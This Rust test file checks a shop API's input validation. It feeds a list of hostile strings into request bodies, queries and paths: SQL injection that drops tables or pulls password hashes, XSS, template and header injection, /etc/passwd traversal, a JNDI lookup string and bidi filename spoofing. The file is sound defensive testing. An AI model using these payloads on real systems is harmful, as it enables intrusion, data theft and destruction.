//! SQL, NULs, markup, other directions and whatever else a text may be.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use super::places::{encoded, pointers, with};
use super::{Attacked, is_clean, is_refused_at, seen};
use crate::support::is_problem;

/// For each way in which a text has ended up as something else.
const NASTY: &[&str] = &[
    "' OR '1'='1",
    "x'; DROP TABLE products.products; --",
    "' UNION SELECT password_hash FROM users.users --",
    "\\'; SELECT pg_sleep(10); --",
    "$$; SELECT pg_sleep(10); $$",
    "%' AND 1=1 -- %_\\",
    "{a,\"b}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "../../../../etc/passwd",
    "${jndi:ldap://x.test/a}",
    "%s%s%s%n%x",
    "\u{202e}gpj.exe\u{202c}\u{2066}\u{200b}\u{feff}",
    "\u{1b}[31mred\u{7f}\u{9b}",
    "\u{fdd0}\u{ffff}\u{10ffff}\u{e000}",
    "Z\u{351}\u{36b}\u{343}\u{31a}\u{359}A\u{322}\u{321}\u{489}",
    "ﷺ İıſßẞ ǅ 𝕊𝕙𝕚𝕣𝕥 👩‍👩‍👧‍👦",
    "=HYPERLINK(\"http://x.test\")",
    "NaN",
    "true",
    "\"",
    "\\",
    " ",
    "",
];

#[tokio::test]
async fn a_nul_is_refused_at_every_place() {
    let attacked = Attacked::start().await;
    let mut tried = 0;
    for operation in attacked.with_body() {
        for place in pointers(&operation.body, Value::is_string) {
            let body = with(&operation.body, &place, json!("a\0b"));
            let answer = attacked.send(&operation, body.to_string().into_bytes()).await;
            is_refused_at(&answer, &place, &format!("{} {}", operation.method, operation.template));
            tried += 1;
        }
    }
    assert!(tried > 60, "only {tried} texts");
    for operation in attacked.operations() {
        for (name, _) in &operation.queries {
            let path = format!("{}?{name}=a%00b", operation.path);
            is_refused_at(&attacked.get(&path).await, &format!("/{name}"), &path);
        }
        let segments = operation.template.matches('{').count();
        for which in 0..segments {
            let mut number = 0;
            let fill = |segment: &str| match segment.strip_prefix('{') {
                Some(_) => {
                    number += 1;
                    if number - 1 == which { "a%00b".to_owned() } else { uuid::Uuid::now_v7().to_string() }
                }
                None => segment.to_owned(),
            };
            let path = operation.template.split('/').map(fill).collect::<Vec<_>>().join("/");
            let aimed = super::Operation { path, ..operation.clone() };
            let answer = attacked.send(&aimed, aimed.body.to_string().into_bytes()).await;
            is_clean(&answer, &format!("{} {}", aimed.method, aimed.path));
            assert!([400, 404].contains(&answer.status), "{} {}: {}", aimed.method, aimed.path, answer.text);
        }
    }
    let form = "grant_type=password&username=a%00b&password=x";
    let headers = [("content-type", "application/x-www-form-urlencoded")];
    let answer = attacked.shop.raw("POST", "/api/v1/auth/token", &headers, form.into()).await;
    is_refused_at(&answer, "/username", form);
    attacked.is_unharmed();
}

#[tokio::test]
async fn no_text_breaks_anything() {
    let attacked = Attacked::start().await;
    for operation in attacked.with_body() {
        for place in pointers(&operation.body, Value::is_string) {
            for text in NASTY {
                let body = with(&operation.body, &place, json!(text));
                let answer = attacked.send(&operation, body.to_string().into_bytes()).await;
                is_clean(&answer, &format!("{} {} {place} {text}", operation.method, operation.template));
            }
        }
    }
    for operation in attacked.operations() {
        for (name, _) in &operation.queries {
            for text in NASTY {
                let path = format!("{}?{name}={}", operation.path, encoded(text));
                is_clean(&attacked.get(&path).await, &path);
            }
        }
    }
    for text in NASTY {
        for path in ["products", "categories", "orders", "carts", "payments", "variants", "users", "payments/webhooks"]
        {
            is_clean(&attacked.get(&format!("/api/v1/{path}/{}", encoded(text))).await, text);
        }
    }
    attacked.is_unharmed();
}

#[tokio::test]
async fn half_a_character_is_no_text() {
    let attacked = Attacked::start().await;
    for operation in attacked.with_body() {
        for place in pointers(&operation.body, Value::is_string) {
            let body = with(&operation.body, &place, json!("@here@")).to_string();
            for half in ["\\ud800", "\\udc00", "a\\ud83d", "\\ud800\\ud800"] {
                let answer = attacked.send(&operation, body.replace("@here@", half).into_bytes()).await;
                is_refused_at(&answer, &place, &format!("{} {} {half}", operation.method, operation.template));
            }
            let (before, after) = body.split_once("@here@").unwrap();
            let bytes = [before.as_bytes(), b"a\xff\xfe\xc0\xafb", after.as_bytes()].concat();
            let answer = attacked.send(&operation, bytes).await;
            is_problem(&answer, &[400], "malformed_json");
        }
    }
}

/// A search or a filter with SQL in it finds what has just these words in it: nothing.
#[tokio::test]
async fn sql_finds_nothing_more() {
    let attacked = Attacked::start().await;
    for title in ["Linen Shirt", "Straw Hat", "Wool Sock"] {
        attacked.shop.product(&attacked.admin, title, 1_900, 3).await;
    }
    attacked.shop.register("sql@example.com").await;
    assert_eq!(seen(&attacked.shop, "").await, 4);
    for sql in [
        "' OR '1'='1",
        "') OR ('1'='1",
        "x' OR 1=1 --",
        "\" OR \"\"=\"",
        "x') UNION SELECT * FROM products --",
        "%",
        "_",
        "\\",
        "x' || (SELECT pg_sleep(5)) || '",
        "*:*",
        "linen' & '1",
    ] {
        let sql = encoded(sql);
        for name in ["category", "vendor", "product_type", "tag", "q"] {
            assert_eq!(seen(&attacked.shop, &format!("{name}={sql}")).await, 0, "{name}={sql}");
        }
        let nobody = attacked.get(&format!("/api/v1/users?email={sql}")).await.expect(200);
        assert_eq!(nobody["items"].as_array().unwrap().len(), 0, "email={sql}");
        let none = attacked.get(&format!("/api/v1/orders?email={sql}")).await.expect(200);
        assert_eq!(none["items"].as_array().unwrap().len(), 0, "email={sql}");
        let none = attacked.get(&format!("/api/v1/categories?parent={sql}")).await.expect(200);
        assert_eq!(none["items"].as_array().unwrap().len(), 0, "parent={sql}");
        for (list, name) in [
            ("products", "sort"),
            ("products", "status"),
            ("orders", "sort"),
            ("orders", "customer_id"),
            ("payments", "sort"),
            ("users", "role"),
            ("users", "sort"),
        ] {
            let path = format!("/api/v1/{list}?{name}={sql}");
            is_refused_at(&attacked.get(&path).await, &format!("/{name}"), &path);
        }
    }
    assert_eq!(seen(&attacked.shop, "").await, 4);
    attacked.is_unharmed();
}

/// A cursor comes from a client as well, whatever it looks like.
#[tokio::test]
async fn a_made_up_cursor_is_refused_or_leads_nowhere() {
    let attacked = Attacked::start().await;
    attacked.shop.product(&attacked.admin, "Linen Shirt", 1_900, 3).await;
    let id = uuid::Uuid::now_v7();
    let keys = [
        json!(null),
        json!([]),
        json!("' OR 1=1 --"),
        json!([0, "a\0b"]),
        json!([i64::MAX, "x"]),
        json!(["+262142-12-31T23:59:59Z", id]),
        json!(["-262143-01-01T00:00:00Z", id]),
        json!(["0000-01-01T00:00:00Z", id]),
        json!({"sort": "title", "key": {"Title": "a\0b"}, "id": id, "corrected": false}),
        json!({"sort": "title", "key": {"Title": "' OR 1=1 --"}, "id": id, "corrected": true}),
        json!({"sort": "price", "key": {"Price": i64::MIN}, "id": id, "corrected": false}),
        json!({"sort": "-created_at", "key": {"CreatedAt": "+262142-01-01T00:00:00Z"}, "id": id, "corrected": false}),
        json!({"sort": "relevance", "key": {"Rank": [1e308, 1]}, "id": id, "corrected": false}),
        json!({"at": "+262142-01-01T00:00:00Z", "id": id}),
    ];
    let mut tried = 0;
    for operation in
        attacked.operations().into_iter().filter(|operation| operation.queries.iter().any(|(name, _)| name == "cursor"))
    {
        for key in &keys {
            for sort in
                ["", "&sort=title", "&sort=price", "&sort=relevance&q=linen", "&sort=placed_at", "&sort=created_at"]
            {
                let path = format!("{}?cursor={}{sort}", operation.path, URL_SAFE_NO_PAD.encode(key.to_string()));
                is_clean(&attacked.get(&path).await, &format!("{path} {key}"));
                tried += 1;
            }
        }
    }
    assert!(tried > 500, "only {tried}");
}

/// What is shown in one line stays in it, and reads in its own direction.
#[tokio::test]
async fn names_do_not_turn_the_page_around() {
    let attacked = Attacked::start().await;
    let headers = [("authorization", attacked.admin.as_str())];
    for (method, path, body, place) in [
        ("POST", "/api/v1/products", json!({"title": "@"}), "/title"),
        ("POST", "/api/v1/products", json!({"title": "x", "vendor": "@"}), "/vendor"),
        ("POST", "/api/v1/products", json!({"title": "x", "tags": ["@"]}), "/tags"),
        ("POST", "/api/v1/categories", json!({"name": "@"}), "/name"),
        ("PATCH", "/api/v1/users/me", json!({"full_name": "@"}), "/full_name"),
    ] {
        for text in ["\u{202e}nimda", "a\u{2066}b", "a\u{2028}b", "a\nb", "\u{1b}[2J"] {
            let body: Value =
                serde_json::from_str(&body.to_string().replace("\"@\"", &json!(text).to_string())).unwrap();
            let answer = attacked.shop.send(method, path, &headers, Some(body)).await;
            is_refused_at(&answer, place, text);
        }
    }
    for (path, name) in [("/api/v1/products", "title"), ("/api/v1/categories", "name")] {
        let answer = attacked.shop.send("POST", path, &headers, Some(json!({name: "\u{200b}\u{feff}"}))).await;
        is_refused_at(&answer, &format!("/{name}"), "nothing to be seen");
    }
    // Two codes that look the same are one, and a handle is plain.
    for (text, place) in [("SKU\u{200b}-1", "/variants/0/sku"), ("SKU\u{ad}", "/variants/0/sku")] {
        let product = json!({"title": "x", "variants": [{"sku": text, "price": {"amount": 1, "currency": "USD"}}]});
        is_refused_at(&attacked.shop.send("POST", "/api/v1/products", &headers, Some(product)).await, place, text);
    }
    for handle in ["a\u{200b}b", "a b", "../x", "a/b", "A", "a\u{202e}", "e\u{301}", "%2e%2e", ""] {
        let answer = attacked
            .shop
            .send("POST", "/api/v1/products", &headers, Some(json!({"title": "x", "handle": handle})))
            .await;
        is_refused_at(&answer, "/handle", handle);
    }
    let arabic = json!({"title": "قميص\u{200f} (أزرق)", "vendor": "شرکت\u{200c}ها", "tags": ["👩\u{200d}🚀"]});
    attacked.shop.send("POST", "/api/v1/products", &headers, Some(arabic)).await.expect(201);
}
